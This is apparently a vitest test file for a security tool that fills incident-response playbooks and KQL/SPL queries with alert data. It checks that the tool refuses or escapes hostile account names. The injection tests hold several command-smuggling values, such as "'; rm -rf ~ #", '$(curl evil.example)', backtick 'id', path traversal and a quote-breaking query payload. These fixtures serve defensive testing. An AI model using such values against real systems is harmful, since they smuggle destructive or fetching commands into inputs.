import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Alert } from '@interloper/detect';
import { displayWidth, makeOut, plain, renderMadeOut, renderMadeOutMarkdown } from '@interloper/report';
import type { PlaybookSubject } from '@interloper/report';

const screen = { width: 80, paint: plain };
const wide = { width: 300, paint: plain };

function subject(account: string, evidence: Alert['evidence'] = {}): PlaybookSubject {
  const alert: Alert = {
    id: 'a1',
    detection: 'spray',
    title: 'Password spray',
    technique: 'T1110.003',
    severity: 'high',
    confidence: 'medium',
    account,
    time: '2026-03-10T09:00:00Z',
    lastTime: '2026-03-10T09:10:00Z',
    query: 'kql',
    matches: 1,
    why: [],
    evidence,
  };
  return { account, aliases: ['dbmid:AAHhy7WsR0x-u4ZCqiDl5Fz5zvuL3kmspwU'], alerts: [alert] };
}

const text = `# Playbook

\`$user\` is the account, \`$token\` yours.

| # | step | command | rollback |
| - | ---- | ------- | -------- |
| 1 | End all sessions of $user. | \`Revoke -UserId $user\` | none |
| 2 | Block \`$address\`. | \`block $address\`, then \`show $address\` | \`unblock $address; set x $null\` |
`;

function shown(account: string, evidence: Alert['evidence'] = {}): string {
  return renderMadeOut(makeOut(text, subject(account, evidence)), wide).join('\n');
}

describe('what a playbook is filled in with', () => {
  test('comes from the alert; what it does not say is named', () => {
    const out = shown('mina@alderfinch.example', { IPAddress: '203.0.113.9' });
    expect(out).toContain('command   Revoke -UserId mina@alderfinch.example\n');
    expect(out).toContain('`block 203.0.113.9`, then `show 203.0.113.9`');
    // PowerShell's own variable is none of ours.
    expect(out).toContain('set x $null');
    expect(out).not.toContain('$null ');
    expect(out).toMatch(/\$token +not filled in: only you know it/);
    expect(shown('mina@alderfinch.example')).toMatch(/\$address +not filled in .*the evidence does not say/);
  });

  test.each([
    // The forms of names: IAM's documentation, Google's, Dropbox's, Entra's names of guests.
    ['$user', 'arn:aws:iam::111122223333:user/ops/maren', 'maren'],
    ['$account', 'arn:aws:iam::111122223333:user/ops/maren', 'arn:aws:iam::111122223333:user/ops/maren'],
    ['$role', 'arn:aws:sts::111122223333:assumed-role/admin/ops', 'admin'],
    ['$project', 'deploy@tailspin-prod-4711.iam.gserviceaccount.com', 'tailspin-prod-4711'],
    ['$member', 'bo@tailspin.example', 'dbmid:AAHhy7WsR0x-u4ZCqiDl5Fz5zvuL3kmspwU'],
    ['$user', 'bo_fabrikam.example#EXT#@tailspin.example', 'bo_fabrikam.example#EXT#@tailspin.example'],
    ['$since', 'bo@tailspin.example', '2026-03-10T09:00:00Z'],
  ])('%s of %s is %s', (name, account, expected) => {
    const { fillIns } = makeOut(`\`${name}\``, subject(account));
    expect(fillIns.map(({ values, withheld }) => ({ value: values[0], withheld }))).toEqual([
      { value: expected, withheld: undefined },
    ]);
  });

  test.each([
    [
      '$session',
      { SessionId: '005d2b3c-aaaa-4000-8000-000000000001' },
      '005d2b3c-aaaa-4000-8000-000000000001',
    ],
    ['$key', { UserIdentityAccessKeyId: 'AKIAEXAMPLE000000101' }, 'AKIAEXAMPLE000000101'],
    ['$key', { Detail: 'a'.repeat(40) }, 'a'.repeat(40)],
    [
      '$home',
      { HomeTenantId: '11111111-2222-4333-8444-555555555555' },
      '11111111-2222-4333-8444-555555555555',
    ],
    ['$app', { Application: '11111111-2222-4333-8444-555555555555' }, '11111111-2222-4333-8444-555555555555'],
    ['$bucket', { BucketName: 'payroll' }, 'payroll'],
  ] as const)('%s of the evidence %j is %s', (name, evidence, expected) => {
    expect(makeOut(name, subject('x@tailspin.example', evidence)).fillIns[0]?.values).toEqual([expected]);
  });

  test.each([
    "'; rm -rf ~ #",
    '$(curl evil.example)@tailspin.example',
    '`id`@tailspin.example',
    'a\nrm -rf ~',
    'a b',
    '-rf',
    '~root',
    '@splat',
    '#comment',
    'a\u2019; rm x',
    'a|b',
    'a\u202eb',
    '../groups/admins',
    'a/../../b',
  ])('is not put into commands when it is %j', (account) => {
    const out = shown(account, { IPAddress: '203.0.113.9' });
    expect(out).toContain('command   Revoke -UserId $user\n');
    expect(out).toMatch(/\$user +not filled in .*: it (?:has characters|leads out)/s);
    const document = renderMadeOutMarkdown(makeOut(text, subject(account)));
    expect(document).toContain('`Revoke -UserId $user`');
  });

  // What a POSIX shell makes of a word is asked of one: a value that is filled in comes back as it is.
  test.skipIf(process.platform === 'win32')('is one word to a shell, whatever logs say', () => {
    const letters = fc.constantFrom(...'ab.@:/+=-_#$`\'";&|<>(){}[]*?~!%^\\, \t\né'.split(''));
    const filled: string[] = [];
    fc.assert(
      fc.property(fc.array(letters, { minLength: 1, maxLength: 6 }), (parts) => {
        const account = parts.join('');
        const [command = ''] = /(?<=^ +command +Revoke -UserId ).*/m.exec(shown(account)) ?? [];
        if (command !== '$user') filled.push(account);
        // PowerShell's special characters and its typographic quotes (about_Special_Characters, about_Quoting_Rules).
        expect(command === '$user' || !/[\s`$'"(){};&|<>,%*?~!^\\\u2018-\u201f]|^[-@#]/.test(command)).toBe(
          true,
        );
      }),
      { numRuns: 2000 },
    );
    expect(filled.length).toBeGreaterThan(50);
    const script = filled.map((value) => `printf '%s\\n' ${value}`).join('\n');
    const { stdout } = spawnSync('sh', ['-c', script], { encoding: 'utf8' });
    expect(stdout.split('\n').slice(0, -1)).toEqual(filled);
  });
});

describe('the queries of an investigation', () => {
  const investigation = `# Investigation

\`\`\`kql
let Account = "someone@tailspin.example";
let At = datetime(2026-03-10T09:00:00Z);
SigninLogs | where UserPrincipalName =~ Account and IPAddress == "203.0.113.77"
\`\`\`

\`\`\`spl
sourcetype="azure:monitor:aad" properties.userPrincipalName="someone@tailspin.example" callerIpAddress="203.0.113.77*"
\`\`\`

Say someone@tailspin.example to nobody.
`;

  test('ask about the alert: account, address, time; text beside them is left alone', () => {
    const made = makeOut(investigation, subject('mina@alderfinch.example', { IPAddress: '198.51.100.4' }));
    expect(made.markdown).toContain('let Account = "mina@alderfinch.example";');
    expect(made.markdown).toContain('let At = datetime(2026-03-10T09:00:00Z);');
    expect(made.markdown).toContain('IPAddress == "198.51.100.4"');
    expect(made.markdown).toContain(
      'properties.userPrincipalName="mina@alderfinch.example" callerIpAddress="198.51.100.4*"',
    );
    expect(made.markdown).toContain('Say someone@tailspin.example to nobody.');
  });

  test('keep a hostile account inside its quotes', () => {
    const made = makeOut(investigation, subject(String.raw`x" | outputlookup z \@evil.example`));
    // The escapes of KQL's string literals, and of SPL's quoted strings.
    expect(made.markdown).toContain(String.raw`let Account = "x\" | outputlookup z \\@evil.example";`);
    expect(made.markdown).toContain(String.raw`userPrincipalName="x\" | outputlookup z \\@evil.example"`);
    const wild = makeOut(investigation, subject('*@evil.example'));
    expect(wild.markdown).toContain('let Account = "someone@tailspin.example";');
    expect(wild.fillIns.find(({ name }) => name === 'account')?.withheld).toContain(
      'cannot stand in a query',
    );
  });

  test('are left as they are where they have several samples of a kind', () => {
    const two = investigation.replace('Account and', 'Account and x != "other@tailspin.example" and');
    const made = makeOut(two, subject('mina@alderfinch.example'));
    expect(made.markdown).toContain('let Account = "someone@tailspin.example";');
    expect(made.fillIns.find(({ name }) => name === 'account')?.withheld).toContain('several samples');
  });
});

describe('a playbook on a terminal', () => {
  const root = fileURLToPath(new URL('../../../detections', import.meta.url));
  const all = readdirSync(root).map(
    (slug) => [slug, readFileSync(`${root}/${slug}/playbook.md`, 'utf8')] as const,
  );

  test.each(all)('%s: every command is whole on one line, all else fits the width', (_, markdown) => {
    const lines = renderMadeOut(makeOut(markdown), screen);
    const whole = lines.join('\n');
    const codes = [...markdown.matchAll(/`([^`\n]+)`/g)].map(([, code = '']) =>
      code.replaceAll(String.raw`\|`, '|'),
    );
    expect(codes.filter((code) => !lines.some((line) => line.includes(code)))).toEqual([]);
    const tooWide = lines.filter(
      (line) => displayWidth(line) > 80 && !codes.some((code) => line.includes(code)),
    );
    expect(tooWide).toEqual([]);
    // Nothing is lost: each word of the text is there. Only the titles of the columns of steps are not needed.
    const words = markdown.replaceAll(/[`|*#]|-{3,}|\\/g, ' ').split(/\s+/);
    const said = whole.replaceAll(/[`|*#]|\\/g, ' ');
    expect(words.filter((word) => word !== 'step' && !said.includes(word))).toEqual([]);
  });
});
